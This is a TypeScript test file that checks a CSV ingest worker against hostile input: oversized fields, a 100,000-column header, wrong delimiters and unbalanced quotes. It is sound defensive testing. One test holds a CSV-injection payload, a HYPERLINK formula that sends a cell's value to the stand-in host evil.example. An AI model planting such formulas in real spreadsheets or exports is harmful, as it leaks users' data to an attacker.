// Hostile CSV content (issue 6): each gets a clear, specific outcome, memory stays bounded
// and the worker stays usable. Complements ingest-rules (binary, empty, header-only,
// non-UTF-8 files) and the HTTP-level hostile tests.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHarness, csv, id, TX_HEADER, USERS_HEADER, type IngestHarness } from '../helpers/ingest-fixtures.js';

let h: IngestHarness;
const U = (n: number) => id(n, 1);
const T = (n: number) => id(n, 2);
const C = (n: number) => id(n, 3);
const user = (n: number, name = `User ${n}`) => `${U(n)},${name},US,true,Eng,Acme,2024-01-01`;
const tx = (n: number) => `${T(n)},${U(1)},gpt-4o,${C(n)},prompt,100,0.005,0.0005,2024-03-01T10:00:00Z`;

beforeAll(async () => {
  h = await createHarness('hostile');
  const jobId = await h.upload({ users: csv(USERS_HEADER, [user(1)]) });
  expect((await h.run(jobId)).status).toBe('COMPLETED');
});
afterAll(() => h?.close());


describe('hostile CSV content', () => {
  it('a 10 MB single field is one rejected row (raw truncated to 1 KiB), the rest is ingested', async () => {
    const huge = `"${'x'.repeat(10 * 1024 * 1024)}"`;
    const { result, rejected } = await h.ingest({
      users: csv(USERS_HEADER, [user(2), `${U(3)},${huge},US,true,Eng,Acme,2024-01-01`, user(4)]),
    });
    expect(result.status).toBe('COMPLETED_WITH_ERRORS');
    expect(rejected).toHaveLength(1);
    expect(rejected[0]!.line).toBe(3);
    expect(rejected[0]!.reason).toMatch(/record longer than/);
    expect(rejected[0]!.raw.length).toBeLessThanOrEqual(1024);
    const { rows } = await h.db.pool.query('SELECT count(*)::int AS n FROM users WHERE id = ANY($1)', [[U(2), U(4)]]);
    expect(rows[0].n).toBe(2);
  });

  it('a 100k-column header fails the file naming what is missing, before any write', async () => {
    const header = Array.from({ length: 100_000 }, (_, i) => `col${i}`).join(',');
    const { result, job } = await h.ingest({ users: `${header}\n${'1,'.repeat(99_999)}1\n` });
    expect(result.status).toBe('FAILED');
    expect(job.error).toMatch(/missing required column/i);
    expect(job.error).toMatch(/User_ID/);
    expect(job.error!.length).toBeLessThan(2000);
  });

  it('a semicolon-delimited file fails with the missing columns named', async () => {
    const { result, job } = await h.ingest({ transactions: `${TX_HEADER.replaceAll(',', ';')}\n${tx(1).replaceAll(',', ';')}\n` });
    expect(result.status).toBe('FAILED');
    expect(job.error).toMatch(/RowId/);
  });

  it('an unbalanced quote at the end rejects that record only', async () => {
    const { result, rejected } = await h.ingest({ transactions: `${TX_HEADER}\n${tx(10)}\n${tx(11)}\n"${T(12)},oops\n` });
    expect(result.status).toBe('COMPLETED_WITH_ERRORS');
    expect(rejected.map((row) => row.line)).toEqual([4]);
    expect(rejected[0]!.reason).toMatch(/quote/i);
    const { rows } = await h.db.pool.query('SELECT count(*)::int AS n FROM transactions WHERE row_id = ANY($1)', [[T(10), T(11)]]);
    expect(rows[0].n).toBe(2);
  });

  it('a CSV-injection payload in a text field is stored as plain data', async () => {
    const payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const { result } = await h.ingest({ users: csv(USERS_HEADER, [user(5, `"${payload.replaceAll('"', '""')}"`)]) });
    expect(result.status).toBe('COMPLETED');
    const { rows } = await h.db.pool.query('SELECT name FROM users WHERE id = $1', [U(5)]);
    expect(rows[0].name).toBe(payload);
  });
});
